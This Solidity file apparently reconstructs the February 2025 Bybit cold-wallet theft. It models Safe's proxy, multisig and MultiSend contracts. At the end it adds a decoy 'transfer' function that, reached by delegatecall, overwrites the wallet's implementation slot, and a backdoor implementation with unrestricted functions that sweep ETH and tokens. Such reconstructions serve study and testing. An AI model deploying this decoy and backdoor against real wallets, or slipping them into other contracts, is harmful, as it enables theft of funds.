// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// Stands for Safe's proxy: all it knows is where its code is, in slot 0, which a delegatecall can overwrite.
contract SafeProxy {
    address internal singleton;

    constructor(address singleton_, bytes memory setup) {
        singleton = singleton_;
        (bool done,) = singleton_.delegatecall(setup);
        require(done, "setup failed");
    }

    fallback() external payable {
        address target = singleton;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(done) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }

    receive() external payable {}
}

/// Stands for Safe 1.4: several owners, a threshold, EIP-712 hashes equal to Safe's own, and operation 1, which
/// runs foreign code as if it were the wallet's. Refunds of gas are part of the hash and are not paid.
contract Safe {
    address internal singleton;
    address[] private _owners;
    mapping(address => bool) public isOwner;
    uint256 public getThreshold;
    uint256 public nonce;

    struct SafeTransaction {
        address to;
        uint256 value;
        bytes data;
        uint8 operation;
        uint256 safeTxGas;
        uint256 baseGas;
        uint256 gasPrice;
        address gasToken;
        address refundReceiver;
        uint256 nonce;
    }

    modifier onlyItself() {
        require(msg.sender == address(this), "only the wallet itself");
        _;
    }

    function setup(address[] calldata owners, uint256 threshold) external {
        require(getThreshold == 0, "set up already");
        for (uint256 i = 0; i < owners.length; i++) _add(owners[i]);
        getThreshold = threshold;
    }

    function getOwners() external view returns (address[] memory) {
        return _owners;
    }

    function addOwnerWithThreshold(address owner, uint256 threshold) external onlyItself {
        _add(owner);
        require(threshold > 0 && threshold <= _owners.length, "bad threshold");
        getThreshold = threshold;
    }

    function execTransaction(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address payable refundReceiver,
        bytes memory signatures
    ) external payable returns (bool done) {
        SafeTransaction memory transaction;
        transaction.to = to;
        transaction.value = value;
        transaction.data = data;
        transaction.operation = operation;
        transaction.safeTxGas = safeTxGas;
        transaction.baseGas = baseGas;
        transaction.gasPrice = gasPrice;
        transaction.gasToken = gasToken;
        transaction.refundReceiver = refundReceiver;
        transaction.nonce = nonce++;
        _checkSignatures(_hash(transaction), signatures);
        done = _run(transaction);
        require(done, "the call failed");
    }

    function getTransactionHash(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address refundReceiver,
        uint256 nonce_
    ) external view returns (bytes32) {
        SafeTransaction memory transaction;
        transaction.to = to;
        transaction.value = value;
        transaction.data = data;
        transaction.operation = operation;
        transaction.safeTxGas = safeTxGas;
        transaction.baseGas = baseGas;
        transaction.gasPrice = gasPrice;
        transaction.gasToken = gasToken;
        transaction.refundReceiver = refundReceiver;
        transaction.nonce = nonce_;
        return _hash(transaction);
    }

    function domainSeparator() public view returns (bytes32) {
        return keccak256(
            abi.encode(
                keccak256("EIP712Domain(uint256 chainId,address verifyingContract)"), block.chainid, address(this)
            )
        );
    }

    function _add(address owner) private {
        require(owner != address(0) && !isOwner[owner], "bad owner");
        isOwner[owner] = true;
        _owners.push(owner);
    }

    function _run(SafeTransaction memory transaction) private returns (bool done) {
        if (transaction.operation == 1) {
            (done,) = transaction.to.delegatecall(transaction.data);
        } else {
            (done,) = transaction.to.call{value: transaction.value}(transaction.data);
        }
    }

    function _hash(SafeTransaction memory transaction) private view returns (bytes32) {
        bytes32 structHash = keccak256(
            bytes.concat(
                abi.encode(
                    keccak256(
                        "SafeTx(address to,uint256 value,bytes data,uint8 operation,uint256 safeTxGas,uint256 baseGas,uint256 gasPrice,address gasToken,address refundReceiver,uint256 nonce)"
                    ),
                    transaction.to,
                    transaction.value,
                    keccak256(transaction.data),
                    transaction.operation
                ),
                abi.encode(
                    transaction.safeTxGas,
                    transaction.baseGas,
                    transaction.gasPrice,
                    transaction.gasToken,
                    transaction.refundReceiver,
                    transaction.nonce
                )
            )
        );
        return keccak256(abi.encodePacked(hex"1901", domainSeparator(), structHash));
    }

    /// Signatures of 65 bytes in ascending order of owners; v = 1 means that the owner sends this transaction.
    function _checkSignatures(bytes32 digest, bytes memory signatures) private view {
        require(signatures.length >= getThreshold * 65, "too few signatures");
        address last;
        for (uint256 i = 0; i < getThreshold; i++) {
            bytes32 r;
            bytes32 s;
            uint8 v;
            assembly {
                let start := add(add(signatures, 32), mul(i, 65))
                r := mload(start)
                s := mload(add(start, 32))
                v := byte(0, mload(add(start, 64)))
            }
            address signer = v == 1 ? address(uint160(uint256(r))) : ecrecover(digest, v, r, s);
            require(v != 1 || signer == msg.sender, "not sent by that owner");
            require(signer > last && isOwner[signer], "not an owner");
            last = signer;
        }
    }
}

/// Stands for Safe's MultiSend: reached by delegatecall, it runs a packed list of calls as the wallet.
contract MultiSend {
    function multiSend(bytes memory transactions) external payable {
        uint256 start = 0;
        while (start < transactions.length) {
            uint8 operation;
            address to;
            uint256 value;
            uint256 length;
            bool done;
            assembly {
                let entry := add(add(transactions, 32), start)
                operation := byte(0, mload(entry))
                to := shr(96, mload(add(entry, 1)))
                value := mload(add(entry, 21))
                length := mload(add(entry, 53))
                switch operation
                case 0 { done := call(gas(), to, value, add(entry, 85), length, 0, 0) }
                case 1 { done := delegatecall(gas(), to, add(entry, 85), length, 0, 0) }
            }
            require(done, "a call failed");
            start += 85 + length;
        }
    }
}

/// Stands for the first of two contracts that emptied Bybit's cold wallet in February 2025: its `transfer` looks
/// like a token's, and by delegatecall it writes a new implementation into the wallet's slot 0.
contract DecoyTransfer {
    uint256 private _implementation;

    function transfer(address to, uint256) external returns (bool) {
        _implementation = uint256(uint160(to));
        return true;
    }
}

/// Stands for the second: what the wallet's code is from then on, with two open doors.
contract BackdoorImplementation {
    function sweepETH(address payable to) external {
        (bool done,) = to.call{value: address(this).balance}("");
        require(done, "not paid");
    }

    function sweepERC20(address token, address to) external {
        (bool read, bytes memory held) = token.staticcall(abi.encodeWithSignature("balanceOf(address)", address(this)));
        require(read, "no balance");
        (bool done,) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, abi.decode(held, (uint256))));
        require(done, "not moved");
    }
}
